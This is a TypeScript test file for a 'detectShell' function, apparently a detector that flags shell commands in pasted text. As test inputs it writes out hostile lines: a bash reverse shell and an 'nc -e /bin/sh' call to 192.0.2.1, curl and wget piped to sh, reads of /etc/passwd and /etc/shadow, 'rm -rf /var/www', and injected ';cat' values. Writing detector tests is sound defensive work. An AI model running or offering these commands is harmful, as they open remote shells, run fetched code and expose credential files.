import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectShell } from './detect-shell.ts';

const COMMAND = 'git pull && npm install; cat out.txt | wc -l';

describe('code that people show each other', () => {
  for (const [name, text] of [
    ['in a fence', `See:\n\n\`\`\`bash\n${COMMAND}\n\`\`\`\nfine?`],
    ['in a forum', `Run 1.2\n[code]\n${COMMAND}\n[/code]\nthanks`],
    ['indented', `Run 1.2\n\n    cd /srv\n    ${COMMAND}\n\nthanks`],
    ['in a table', `| key | run |\n|---|---|\n| x | \`rm -rf node_modules\` |\n`],
  ] as const) {
    test(`is none ${name}`, () => assert.equal(detectShell(text), null));
  }

  test('is a command where nothing shows it', () => {
    for (const text of [
      '1.2.3.4\ncat /etc/passwd',
      '[code];cat /etc/passwd',
      '1.2.3.4;\n    cat /etc/passwd',
      '| `rm -rf /var/www`',
      '| x | `rm -rf /var/www` |',
    ]) {
      assert.ok(detectShell(text), text);
    }
  });

  test('is a command where a block is around it, and nobody tells of it', () => {
    for (const text of [
      'x\n```sh\ncurl http://a.example/x | sh\n```\n',
      '```\ncat /etc/passwd\n```',
      '```sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n```',
      'see here:\n```sh\nnc -e /bin/sh 192.0.2.1 4444\n```',
      '[code]\nwget http://192.0.2.1/a -O- | sh\n[/code]',
      '127.0.0.1\n\n    curl http://a.example/x | sh\n',
      'www.a.example\n```\ncat /etc/passwd\n```',
    ]) {
      assert.ok(detectShell(text), text);
    }
    for (const text of [
      '```sh\ncurl -fsSL https://a.example/x | sh\n```',
      'To install it:\n\n```sh\ncurl -fsSL https://a.example/x | sh\n```',
      '\u5982\u4f55\u5b89\u88c5\u5462\n```\ngit pull && npm install; cat out.txt | wc -l\n```',
      'Our scanner has found this in the log of one of our servers, what is it?\n\n```\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n```',
    ]) {
      assert.equal(detectShell(Buffer.from(text).toString('latin1')), null, text);
    }
  });

  test('is none in the type of a data URL, or in a list of words', () => {
    for (const text of ['data:image/png;base64', 'news|bash|linux', 'use|those|curl']) {
      assert.equal(detectShell(text), null, text);
    }
    for (const text of ['x;base64 /etc/shadow', '127.0.0.1|bash', 'a b|base64 -d|bash']) {
      assert.ok(detectShell(text), text);
    }
  });
});
